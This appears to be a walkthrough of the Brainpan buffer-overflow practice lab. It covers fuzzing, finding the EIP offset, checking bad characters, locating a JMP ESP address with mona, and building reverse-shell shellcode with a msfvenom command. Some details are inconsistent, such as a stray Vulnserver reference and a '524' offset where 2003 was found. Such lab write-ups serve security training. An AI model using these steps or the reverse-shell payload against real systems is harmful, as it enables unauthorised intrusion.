Brainpan Bufferoverflow Walkthrough

1. Fuzzing

Total length of the buffer is 2700 where the application crashed and overwritten with A’s bytes.


2. Finding the offset

pattern_create.rb -l 3000

Generated 3000 offset of strings so we can find the correct length of our offset.

let’s execute

EIP has been replaced with our generated offset strings.


EIP: 35724134

We found the offset at 2003.3. Overwriting the EIP

But to verify 524 we’re gonna add 4 more B’s (Bytes) to see if it replace EIP with B’s.

It has successfully overwritten EIP with 42424242 which is B’s that means our length to offset is correct.


4. Finding bad characters

You will need to right click on the ESP register and select “Follow in Dump” . You should notice a little bit of movement in the bottom left corner of the program. If you look carefully, you should see all of your bytes in order starting with 01, 02, 03, etc and ending with FF. If a bad character were present, it would seem out of place. Luckily for us, there are no bad characters in the Vulnserver program. Notice below how all of our numbers appear perfect and in order:

ESP Stack Register


Follow ESP in Dump


In this scenario, we would need to mark down every missing character for later shellcode development. However, the only bad character we need to worry about with brainpan.exeis x00. Now to find the right module…

5. Finding the right module

JMP ESP = \xff\xe4

!mona modules
!mona find -s “\xff\xe4” -m brainpan.exe

return address: 0x311712f3 (To verify that you have found correct return address follow me)

Run immunity again and attach brainpan.exe and then click on the far right arrow.Then search for “0x311712f3” (or the return address you found)

That should bring up your return address, FFE4, JMP ESP location. Once you’ve found it, hit F2 and the address should turn baby blue, indicating that we have set a breakpoint.


Now, run and play the execution in immunity. You’ll see the EIP has been replaced with our return address.

6. Generating shellcode

msfvenom -p windows/shell_reverse_tcp LPORT=1337 LHOST= -b “\x00” -f pyI have also added 32 “\x90″s to the shellcode variable. This is standard practice. The x90 byte is also known as the NOP, or no operation. It literally does nothing. However,when developing exploits, we can use it as padding. There are instances where ourexploit code can interfere with our return address and not run properly. To avoidthis interference, we canadd some padding in-between the two items.7. Gaining root!

1 Like